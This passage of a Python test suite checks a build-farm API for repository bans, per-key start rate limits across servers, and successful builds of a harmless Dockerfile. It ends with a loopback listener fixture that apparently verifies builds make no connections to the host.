    assert response.json()["type"] == "repositoryBanned"
    assert response.json()["error"].endswith("is not allowed on this farm: its operators "
                                             "banned it.")
    assert keyed(keyed_farm[0], "reader").request(
        "GET", "/builds/mallory-banned-thing").status_code == 404


def test_start_limits_hold_across_api_servers_and_rotated_keys(
        keyed_farm: list[str], repo_url: str) -> None:
    first, second = keyed_farm
    repo = f"{repo_url}/alice/{unique('limited')}"
    assert keyed(first, "launcher").start(repo).status_code == 200
    again = keyed(second, "launcher-next").start(repo)  # the other key, the other server
    assert again.status_code == 409, again.text  # already building, and counted
    limited = keyed(first, "launcher-next").start(repo)
    assert limited.status_code == 429, limited.text
    assert limited.json()["type"] == "rateLimited"
    assert 3000 < int(limited.headers["Retry-After"]) <= 3600
    # the key's own limit: two more repositories, then a third is refused
    for server in (second, first):
        assert keyed(server, "launcher").start(f"{repo_url}/alice/{unique('other')}"
                                               ).status_code == 200
    refused = keyed(second, "launcher").start(f"{repo_url}/alice/{unique('one-too-many')}")
    assert refused.status_code == 429
    assert "for the key 'launcher': at most 3 per hour" in refused.json()["error"]


# The farms still build


def test_each_farm_still_builds_a_good_repository(api: ApiClient, strict_api: ApiClient,
                                                  git_server: GitServer,
                                                  repo_url: str) -> None:
    for client in (api, strict_api):
        repo = unique("good")
        git_server.make_repo(f"github/alice/{repo}", {
            "Dockerfile": f"FROM {BASE_IMAGE}\nUSER root\nRUN echo ok > /ok\nUSER ${{NB_USER}}\n"})
        started = client.start(f"{repo_url}/alice/{repo}")
        assert started.status_code == 200, started.text
        record = client.wait(started.json()["name"], timeout=600)
        assert record["status"] == "completed", (record, client.logs(record["name"]))


class _Listener:
    """Counts connections to a loopback port (none are expected)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections: list[tuple[str, int]] = []
        self.running = True
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        while self.running:
            try:
                connection, address = self.sock.accept()
            except OSError:
                continue
            self.connections.append(address)
            connection.close()

    def close(self) -> None:
        self.running = False
        self.thread.join(2)
        self.sock.close()


class listening_socket:  # noqa: N801 - used as a context manager like open()
    def __enter__(self) -> tuple[int, list[tuple[str, int]]]:
        self.listener = _Listener()
        return self.listener.port, self.listener.connections

    def __exit__(self, *exc: object) -> None:
        self.listener.close()
